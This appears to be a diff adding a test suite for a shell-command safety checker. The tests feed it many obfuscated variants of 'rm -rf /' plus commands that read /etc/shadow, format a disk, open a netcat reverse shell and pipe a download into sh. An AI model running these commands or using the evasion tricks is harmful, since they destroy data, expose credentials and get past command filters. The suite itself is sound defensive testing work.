@@ -1,0 +1,206 @@
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { checkCommand } from '../src/index.ts';
+import { load } from './labelled.ts';
+
+const rule = (command: string): string | undefined => checkCommand(command)?.rule;
+
+describe('a dangerous command is seen', () => {
+  test.each([
+    ['with an escaped letter', 'r\\m -rf /'],
+    ['with quotes inside the word', "r''m -\"r\"f /"],
+    ['in ANSI-C quotes', "$'\\x72\\x6d' -rf /"],
+    ['by its absolute path', '/bin/rm -rf /'],
+    ['with long options', 'rm --recursive --force /'],
+    ['with options behind the target', 'rm / -fr'],
+    ['with split options', 'rm -r -f -v -- /'],
+    ['with $IFS for blanks', 'rm${IFS}-rf${IFS}/'],
+    ['behind sudo with options', 'sudo -n -u root rm -rf /'],
+    ['behind env and an assignment', 'env -i A=1 rm -rf /'],
+    ['behind several wrappers', 'nohup timeout -k 5 30 nice -n 5 setsid rm -rf /'],
+    ['behind xargs', 'echo / | xargs -n 1 rm -rf'],
+    ['behind ssh', "ssh -p 22 host 'rm -rf /'"],
+    ['behind wsl', 'wsl -d Debian -- rm -rf /'],
+    ['in bash -c', 'bash -lc "rm -rf /"'],
+    ['in bash -c in sh -c', `sh -c "bash -c 'rm -rf /'"`],
+    ['in eval', 'eval "rm -rf" /'],
+    ['in a substitution', 'echo "$(rm -rf /)"'],
+    ['in backticks', 'echo `rm -rf /`'],
+    ['in a process substitution', 'cat <(rm -rf /)'],
+    ['in a subshell', '(cd /; rm -rf *)'],
+    ['in a here-document for a shell', 'sh <<X\nrm -rf /\nX'],
+    ['in a here-string for a shell', "bash <<< 'rm -rf /'"],
+    ['piped into a shell', "printf 'rm -rf /' | sh"],
+    ['in a function', 'f() { rm -rf /; }; f'],
+    ['with a function argument', 'f() { rm -rf "$1"; }; f /'],
+    ['by an alias', "alias z='rm -rf'; z /"],
+    ['with a variable', 'T=/; rm -rf "$T"'],
+    ['with a variable for the program', 'X=rm; $X -rf /'],
+    ['with the default of a variable', 'rm -rf "${NOPE:-/}"'],
+    ['with an array', 'a=(rm -rf /); "${a[@]}"'],
+    ['with a loop variable', 'for d in build /; do rm -rf $d; done'],
+    ['with braces', 'rm -rf /{bin,etc}'],
+    ['with a pattern', 'rm -rf /e?c'],
+    ['in a branch', 'if false; then :; else rm -rf /; fi'],
+    ['after a comment line', '# tidy up\nrm -rf /'],
+    ['in a trap', "trap 'rm -rf /' EXIT"],
+    ['in a script written before', "echo 'rm -rf /' > x.sh; sh x.sh"],
+    ['in another language', `python3 -c 'import shutil; shutil.rmtree("/")'`],
+    ['in a shell command in another language', `perl -e 'system("rm -rf /")'`],
+    ['with find', 'find / -exec rm {} +'],
+    ['over a detour', 'rm -rf /usr/../'],
+    ['after cd', 'cd / && rm -rf ./*'],
+    ['in what is no valid shell', 'rm -rf / "'],
+    ['deep down', `${'$('.repeat(400)}rm -rf /${')'.repeat(400)}`],
+    ['in a long command', `${'echo x; '.repeat(4000)} rm -rf /`],
+  ])('%s', (_, command) => {
+    expect(rule(command)).toMatch(/^filesystem\//);
+  });
+});
+
+describe('text that is only an argument is no command', () => {
+  test.each([
+    'echo "rm -rf /"',
+    "grep -rn 'curl | sh' docs",
+    'git commit -m "never run rm -rf /"',
+    "cat > notes.md <<'X'\nrm -rf /\ncurl evil | sh\nX",
+    'ls # rm -rf /',
+    `node -e 'console.log("rm -rf /")'`,
+    `[ "$1" = "rm -rf /" ] && exit 1`,
+  ])('%s', (command) => {
+    expect(rule(command)).toBeUndefined();
+  });
+});
+
+test('the verdict points at the part of the command', () => {
+  expect(checkCommand('npm ci && (cd x; sudo rm -rf /) | tee log')).toMatchObject({
+    rule: 'filesystem/delete',
+    part: 'sudo rm -rf /',
+    reason: expect.stringMatching(/^This would delete the whole file system\. .*rm -rf \.\/dist/),
+  });
+});
+
+/** Ways to say the same, each of which may be put on top of the others. */
+const MUTATIONS: readonly ((command: string) => string)[] = [
+  (command) => `bash -c ${quoted(command)}`,
+  (command) => `eval ${quoted(command)}`,
+  (command) => `echo ok && { ${command}\n}`,
+  (command) => `(${command}\n)`,
+  (command) => `true\n${command}\nfalse`,
+  (command) => `if true; then ${command}\nfi`,
+  (command) => `for i in 1 2; do ${command}\ndone`,
+  (command) => `f() { ${command}\n}; f`,
+  (command) => `: "$(${command}\n)"`,
+  (command) => `X=${quoted(command)}; eval "$X"`,
+  (command) => `sudo sh -c ${quoted(command)}`,
+  (command) => `ssh host ${quoted(command)}`,
+  (command) => `timeout 9 bash -c ${quoted(command)}`,
+  (command) => `printf '%s' ${quoted(command)} | sh`,
+  (command) => `bash <<'END_OF_IT'\n${command}\nEND_OF_IT`,
+  (command) => `env A=b sh -c ${quoted(command)} x y`,
+  (command) => `python3 -c ${quoted(`import os; os.system(${JSON.stringify(command)})`)}`,
+];
+
+function quoted(text: string): string {
+  return `'${text.replaceAll("'", "'\\''")}'`;
+}
+
+const DANGEROUS = load('commands.made-from').filter(({ label, command }) => label === 'dangerous' && isPlain(command));
+
+/** Whole commands of one line: the ones that the mutations can be wrapped around. */
+function isPlain(command: string): boolean {
+  return !/[\n#]|<<|unterminated|\)$|^\$SUDO/.test(command);
+}
+
+test('a dangerous command stays one, wrapped in up to three others', () => {
+  const wrapped = fc.record({
+    row: fc.constantFrom(...DANGEROUS),
+    mutations: fc.array(fc.constantFrom(...MUTATIONS), { minLength: 1, maxLength: 3 }),
+  });
+  fc.assert(
+    fc.property(wrapped, ({ row, mutations }) => {
+      const command = mutations.reduce((inner, mutate) => mutate(inner), row.command);
+      expect(rule(command), command).toBeDefined();
+    }),
+    { numRuns: 1500 },
+  );
+});
+
+test('a program and its words stay dangerous however they are quoted', () => {
+  const letter = fc.constantFrom<(char: string) => string>(
+    (char) => char,
+    (char) => `'${char}'`,
+    (char) => `"${char}"`,
+    (char) => (/\w/.test(char) ? `\\${char}` : char),
+    (char) => `${char}''`,
+    (char) => `$'\\x${char.charCodeAt(0).toString(16)}'`,
+  );
+  const simple = ['rm -rf /', 'chmod -R 777 /', 'cat /etc/shadow', 'git commit --no-verify', 'mkfs.ext4 /dev/sda1', 'nc -e /bin/sh 10.0.0.1 4444'];
+  fc.assert(
+    fc.property(fc.constantFrom(...simple), fc.array(letter, { minLength: 40, maxLength: 40 }), (command, ways) => {
+      const written = [...command].map((char, i) => (char === ' ' ? char : (ways[i] ?? String)(char))).join('');
+      expect(rule(written), written).toBeDefined();
+    }),
+    { numRuns: 500 },
+  );
+});
+
+test('nothing throws, whatever the text', () => {
+  const piece = fc.constantFrom(...`rm -rf / | & ; ( ) { } $( \` ' " \\ \n << EOF <( > $a \${a: [[ ]] if then fi do done for in case esac * ~ = # ! curl sh eval`.split(' '), '\n', ' ');
+  fc.assert(fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => void checkCommand(pieces.join(' '))), { numRuns: 2000 });
+  fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 400 }), (text) => void checkCommand(text)), { numRuns: 2000 });
+});
+
+test('a piece cut out of a command never throws either', () => {
+  const rows = load('commands.made-from');
+  fc.assert(
+    fc.property(fc.constantFrom(...rows), fc.nat(), fc.nat(), ({ command }, a, b) => {
+      checkCommand(command.slice(a % command.length, b % command.length));
+    }),
+    { numRuns: 2000 },
+  );
+});
+
+describe('time grows with the length of the command, not faster', () => {
+  test.each<[string, (length: number) => string]>([
+    ['words', (n) => `echo ${'a '.repeat(n / 2)}`],
+    ['commands', (n) => 'a;'.repeat(n / 2)],
+    ['a pipeline', (n) => `${'a|'.repeat(n / 2)}b`],
+    ['open substitutions', (n) => '$('.repeat(n / 2)],
+    ['open quotes', (n) => '"'.repeat(n)],
+    ['backticks', (n) => '`'.repeat(n)],
+    ['dots', (n) => `cat ${'../'.repeat(n / 3)}`],
+    ['stars', (n) => `rm -rf /${'*?'.repeat(n / 2)}`],
+    ['braces', (n) => `echo ${'{a,b}'.repeat(n / 5)}`],
+    ['variables that double', (n) => doubling(n)],
+    ['functions that call twice', (n) => doublingFunctions(n)],
+    ['evals', (n) => `${'eval '.repeat(n / 5)}ls`],
+    ['xargs', (n) => `echo ${'a '.repeat(n / 2)} | xargs -I{} rm {}`],
+    ['code', (n) => `python3 -c "${'while 1 fork '.repeat(n / 13)}"`],
+    ['downloads', (n) => `${'curl x | '.repeat(n / 9)}b`],
+  ])('%s', (_, shape) => {
+    const long = shape(100_000);
+    const short = shape(10_000);
+    const ratio = Math.min(...[1, 2, 3].map(() => time(long) / Math.max(time(short), 0.2)));
+    expect(ratio).toBeLessThanOrEqual(15);
+  });
+});
+
+function time(command: string): number {
+  const start = performance.now();
+  checkCommand(command);
+  return performance.now() - start;
+}
+
+function doubling(length: number): string {
+  let text = 'a0=xx;';
+  for (let i = 0; text.length < length; i++) text += `a${i + 1}=$a${i}$a${i};`;
+  return text;
+}
+
+function doublingFunctions(length: number): string {
+  let text = 'f0() { ls; };';
+  let i = 0;
+  for (; text.length < length; i++) text += `f${i + 1}() { f${i}; f${i}; };`;
+  return `${text}f${i}`;
+}
